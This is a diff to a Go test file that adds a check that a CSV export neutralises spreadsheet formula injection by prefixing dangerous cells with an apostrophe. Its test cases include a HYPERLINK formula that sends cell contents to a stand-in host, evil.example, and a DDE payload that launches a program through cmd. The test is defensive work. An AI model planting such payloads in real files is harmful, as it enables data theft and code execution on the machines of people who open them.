@@ -3,6 +3,7 @@ package outputs
 import (
 	"archive/zip"
 	"bytes"
+	"encoding/csv"
 	"io"
 	"strings"
 	"testing"
@@ -308,6 +309,41 @@ func TestLedgerSheetRoundTrip(t *testing.T) {
 
 	_, err = ReadXLSX(strings.NewReader("not a sheet"))
 	assert.Equal(t, workplan.EInvalid, workplan.ErrorCode(err))
+}
+
+// TestCSVEscapesFormulas checks that no cell of the CSV export can be read
+// as a formula by a spreadsheet, whatever a report says.
+func TestCSVEscapesFormulas(t *testing.T) {
+	t.Parallel()
+	tests := []struct{ in, want string }{
+		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
+		{"@SUM(1+1)", "'@SUM(1+1)"},
+		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+		{"-2+3", "'-2+3"},
+		{"\t=1+1", "'\t=1+1"},
+		{"\r=1+1", "'\r=1+1"},
+		{"完成 80%,=不是公式", "完成 80%,=不是公式"},
+		{"", ""},
+		{"'already", "'already"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.in, func(t *testing.T) {
+			assert.Equal(t, tt.want, CSVCell(tt.in))
+		})
+	}
+	rows := []LedgerRow{{TaskNumber: 1, TaskTitle: "=1+1", UnitName: "@unit", Percent: 50, LastProgress: "+cmd|' /C calc'!A0",
+		Fill: Fill{Percent: "50", Progress: "-1", Problems: "\tx", NextSteps: "=A1", Claims: "否"}}}
+	var buf bytes.Buffer
+	require.NoError(t, CSV(&buf, rows))
+	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF"))).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, recs, 2)
+	for i, cell := range recs[1] {
+		if cell != "" {
+			assert.NotContains(t, "=+-@\t\r", cell[:1], "column %d (%s) begins with a formula character: %q", i, recs[0][i], cell)
+		}
+	}
+	assert.Equal(t, "50", recs[1][7], "numbers stay numbers")
 }
 
 // TestLaggardsByPrintedRule: the bulletin names units by its printed rule:
